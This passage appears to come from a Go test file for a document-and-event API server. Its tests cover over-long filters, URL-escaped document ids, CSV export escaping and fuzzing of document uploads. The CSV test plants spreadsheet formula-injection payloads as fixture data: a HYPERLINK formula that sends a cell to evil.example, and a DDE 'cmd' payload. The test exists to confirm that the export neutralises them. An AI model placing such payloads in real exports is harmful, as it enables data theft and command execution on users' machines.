	if err := json.Unmarshal(get(t, s, "/api/documents/s2").body, &doc); err != nil {
		t.Fatal(err)
	}
	if doc.Record.DuplicateOf == nil || *doc.Record.DuplicateOf != "s1" || doc.Record.Similarity == nil {
		t.Errorf("s2's record: duplicate_of %v similarity %v, want s1", doc.Record.DuplicateOf, doc.Record.Similarity)
	}
}

// TestFilters_TooLong checks that a filter value beyond the store's bounds
// is the client's error (400) naming the parameter, never a 500: SQLite
// refuses LIKE patterns over 50,000 bytes and deep OR chains.
func TestFilters_TooLong(t *testing.T) {
	s, _ := newServer(t, server.Options{})
	long := strings.Repeat("a", 50000)
	justOver := strings.Repeat("a", store.MaxFilterBytes+1)
	many := strings.TrimSuffix(strings.Repeat("MIL,", 3000), ",")
	for _, c := range []struct {
		target, param string
	}{
		{"/api/events?actor_name=" + long, "actor_name"},
		{"/api/events?recipient_name=" + justOver, "recipient_name"},
		{"/api/events?place=" + long, "place"},
		{"/api/events?q=" + long, "q"},
		{"/api/events?actor_sector=" + many, "actor_sector"},
		{"/api/events?type=A" + strings.Repeat("&type=B", store.MaxFilterValues), "type"},
		{"/api/places?actor_name=" + long, "actor_name"},
		{"/api/actors/network?recipient_sector=" + many, "recipient_sector"},
		{"/api/stats/timeline?actor_name=" + long, "actor_name"},
		{"/api/export/events.csv?actor_name=" + long, "actor_name"},
		{"/api/quotes?speaker=" + long, "speaker"},
		{"/api/quotes?country=" + many, "country"},
		{"/api/events?cursor=" + long, "cursor"},
	} {
		r := get(t, s, c.target)
		if r.status != http.StatusBadRequest {
			t.Errorf("%.60s: status %d, want 400 (%s)", c.target, r.status, r.body)
			continue
		}
		if msg := decode[map[string]string](t, r)["error"]; !strings.HasPrefix(msg, c.param+":") {
			t.Errorf("%.60s: error %q does not name %s", c.target, msg, c.param)
		}
	}
	// At the limits the filters run.
	for _, target := range []string{
		"/api/events?actor_name=" + strings.Repeat("a", store.MaxFilterBytes),
		"/api/events?actor_sector=" + strings.TrimSuffix(strings.Repeat("MIL,", store.MaxFilterValues), ","),
		"/api/events?q=" + strings.Repeat("a,", 200), // commas in free text are not list items
		"/api/quotes?speaker=" + strings.Repeat("a", store.MaxFilterBytes),
	} {
		if r := get(t, s, target); r.status != http.StatusOK {
			t.Errorf("%.60s: status %d (%s)", target, r.status, r.body)
		}
	}
}

// encodeURIComponent escapes s as the web app's JavaScript does: all but
// A-Z a-z 0-9 - _ . ! ~ * ' ( ).
func encodeURIComponent(s string) string {
	var b strings.Builder
	for _, c := range []byte(s) {
		if 'a' <= c && c <= 'z' || 'A' <= c && c <= 'Z' || '0' <= c && c <= '9' || strings.IndexByte("-_.!~*'()", c) >= 0 {
			b.WriteByte(c)
		} else {
			fmt.Fprintf(&b, "%%%02X", c)
		}
	}
	return b.String()
}

// TestDocument_IDsRoundTrip checks that ids holding characters with a
// meaning in URLs come back from GET /api/documents/{id} as posted,
// whether the client escapes them as the web app does
// (encodeURIComponent) or as Go's url.PathEscape does (which leaves + : =
// alone).
func TestDocument_IDsRoundTrip(t *testing.T) {
	s, _ := newServer(t, server.Options{})
	ids := []string{"AFP/2024/123", "a+b", "a;b", "a:b", "a=b", "a?b", "100%", "two words", "a%2Fb", "x/y+z;1:2=3?4%5 6", "/lead", "trail/"}
	for i, id := range ids {
		body, _ := json.Marshal(map[string]string{"id": id, "text": fmt.Sprintf("Document number %d about France.", i)})
		if r := do(t, s, http.MethodPost, "/api/documents", bytes.NewReader(body), "Content-Type", "application/json"); r.status != http.StatusCreated {
			t.Fatalf("post %q: %d %s", id, r.status, r.body)
		}
	}
	for _, id := range ids {
		for name, esc := range map[string]func(string) string{"encodeURIComponent": encodeURIComponent, "PathEscape": url.PathEscape} {
			target := "/api/documents/" + esc(id)
			r := get(t, s, target)
			if r.status != http.StatusOK {
				t.Errorf("%s %q (%s): status %d %s", name, id, target, r.status, r.body)
				continue
			}
			if got := decode[store.Document](t, r).Record.DocID; got != id {
				t.Errorf("%s %q: got document %q", name, id, got)
			}
		}
	}
	// Unescaped slashes reach the same document.
	if r := get(t, s, "/api/documents/AFP/2024/123"); r.status != http.StatusOK {
		t.Errorf("unescaped slashes: %d %s", r.status, r.body)
	}
	if r := get(t, s, "/api/documents/AFP%2F2024"); r.status != http.StatusNotFound {
		t.Errorf("prefix of an id: %d", r.status)
	}
}

// TestExportCSV_FormulasEscaped checks that text cells a spreadsheet would
// run as formulas leave the CSV export behind a single quote, while numbers
// (negative coordinates and intensities, numeric text) stay numbers.
func TestExportCSV_FormulasEscaped(t *testing.T) {
	docs := storetest.Fixture()
	d2 := &docs[1].Record // PROTEST in Nairobi (lat -1.28), AID in Mombasa
	hyper := `=HYPERLINK("http://evil.example/?"&A1,"click")`
	d2.Events[0].Actor[0].EntityName = hyper
	d2.Events[0].Evidence.TriggerText = "@SUM(1+1)"
	d2.Events[0].Location.Name = "+cmd|' /C calc'!A0"
	d2.Events[0].Recipient[0].EntityName = "\tTabbed"
	d2.Events[1].Actor[0].EntityName = "-2+3"
	d2.Events[1].ClaimedBy.EntityName = "-2+3"
	d2.Events[1].Recipient[0].EntityName = "-5"
	d2.Events[1].Location.Name = "\rReturn"
	db := newStore(t)
	if _, err := db.PutDocuments(context.Background(), docs); err != nil {
		t.Fatal(err)
	}
	s := server.New(db, server.Options{})
	r := get(t, s, "/api/export/events.csv?recipient_country=KEN")
	if r.status != http.StatusOK {
		t.Fatalf("status %d %s", r.status, r.body)
	}
	recs, err := csv.NewReader(bytes.NewReader(r.body)).ReadAll()
	if err != nil || len(recs) != 3 {
		t.Fatalf("csv %v: %q", err, r.body)
	}
	col := map[string]int{}
	for i, h := range recs[0] {
		col[h] = i
	}
	protest, aid := recs[2], recs[1] // AID is dated a day earlier
	for _, c := range []struct {
		row       []string
		col, want string
	}{
		{protest, "actor_name", "'" + hyper},
		{protest, "trigger", "'@SUM(1+1)"},
		{protest, "location_name", "'+cmd|' /C calc'!A0"},
		{protest, "recipient_name", "'\tTabbed"},
		{protest, "lat", "-1.28"},
		{protest, "event", "PROTEST"},
		{aid, "actor_name", "'-2+3"},
		{aid, "claimed_by", "'-2+3"},
		{aid, "recipient_name", "-5"},
		{aid, "location_name", "'\rReturn"},
		{aid, "lat", "-4.04"},
	} {
		if got := c.row[col[c.col]]; got != c.want {
			t.Errorf("%s %s = %q, want %q", c.row[col["event"]], c.col, got, c.want)
		}
	}
	// Intensity is numeric: d1/e1's -9 stays a number.
	r = get(t, s, "/api/export/events.csv?type=ASSAULT")
	recs, _ = csv.NewReader(bytes.NewReader(r.body)).ReadAll()
	if len(recs) != 2 || recs[1][col["intensity"]] != "-9" {
		t.Errorf("intensity: %v", recs)
	}
}

// postFuzzLimit is how long one fuzz input may take under -fuzz; a slower
// one is reported, since a request that slow is a denial of service.
const postFuzzLimit = 10 * time.Second

// fuzzing reports whether go test runs with -fuzz, in the coordinator or a
// worker process (both get -test.fuzz); the testing package has no
// accessor for it.
func fuzzing() bool {
	fl := flag.Lookup("test.fuzz")
	return fl != nil && fl.Value.String() != ""
}

// FuzzPostDocument checks that no body, Content-Type and token make POST
// /api/documents panic or fail with a 5xx: whatever a client sends is
// either coded (2xx) or its own error (4xx). The store is a fresh one in a
// temporary directory; the coder is fakeCoder, since the handler, not the
// pipeline, is under test.
func FuzzPostDocument(f *testing.F) {
	for _, seed := range []struct {
		ct, body string
		auth     bool
	}{
		{"application/json", `{"id":"f1","date":"2024-05-01","title":"T","text":"France accused Kenya.","url":"https://example.org/1"}`, false},
		{"application/json; charset=utf-8", `[{"text":"One."},{"text":"Two FAIL."}]`, false},
		{"application/x-ndjson", "{\"text\":\"a\"}\n{broken\n{\"id\":\"\",\"text\":\"\"}\n", false},
		{"application/json", `{"id":"x"}`, false},
		{"application/json", `{"text":"\u0000\ud800","date":"yesterday"}`, false},
		{"application/json", "", false},
		{"application/json", "[[[[[[[[[[", false},
		{"application/json", `{"text":1e999}`, false},
		{"text/plain", "Plain text about France.", true},
		{"text/plain", "Plain text without a token.", false},
		{"text/plain; charset=latin1", "\xff\xfe\x00", true},
		{"", "<html><body><p>France</p></body></html>", true},
		{"application/x-www-form-urlencoded", "text=France", false},
		{"multipart/form-data; boundary=", "--\r\n", true},
		{"application/json;;", "{}", true},
	} {
		f.Add(seed.ct, []byte(seed.body), seed.auth)
	}
	s, _ := newServer(f, server.Options{Token: "tok", MaxBodyBytes: 1 << 16})
	f.Fuzz(func(t *testing.T, ct string, body []byte, auth bool) {
		req := httptest.NewRequest(http.MethodPost, "/api/documents", bytes.NewReader(body))
		req.Header.Set("Content-Type", ct)
		if auth {
			req.Header.Set("Authorization", "Bearer tok")
		}
		if fuzzing() {
			// Only while fuzzing: seed runs in CI have no timer.
			ctx, cancel := context.WithTimeout(req.Context(), postFuzzLimit)
			defer cancel()
			req = req.WithContext(ctx)
		}
		rec := httptest.NewRecorder()
		s.ServeHTTP(rec, req)
		if err := req.Context().Err(); err != nil {
			t.Fatalf("Content-Type %q, body %q: took longer than %v", ct, body, postFuzzLimit)
		}
		if rec.Code < 200 || rec.Code > 499 {
			t.Fatalf("Content-Type %q, body %q: status %d %s", ct, body, rec.Code, rec.Body)
		}
	})
}
